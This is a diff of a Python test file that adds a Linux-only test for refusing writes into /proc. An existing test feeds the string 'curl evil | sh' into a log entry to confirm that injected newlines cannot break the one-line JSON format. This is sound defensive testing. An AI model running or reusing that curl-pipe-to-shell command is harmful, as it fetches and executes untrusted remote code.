@@ -2,6 +2,7 @@
 
 import json
 import os
+import sys
 from collections.abc import Callable
 from pathlib import Path
 
@@ -140,3 +141,11 @@ def test_a_link_put_there_between_the_look_and_the_opening_is_refused(
 
 def test_an_attackers_words_are_one_line_of_json() -> None:
     assert entry_line(EmotionEntry(0, "\ncurl evil | sh\n")).count(b"\n") == 1
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="a folder of the kernel")
+def test_a_folder_that_takes_no_files_is_told() -> None:
+    """Red before: "expected a file or folder /proc/x.png, got none; check the path"."""
+    for write in (files.create, lambda path: files.write_text(path, "x")):
+        with pytest.raises(InputError, match="/proc: expected a folder that takes new files"):
+            write(Path("/proc/x.png"))
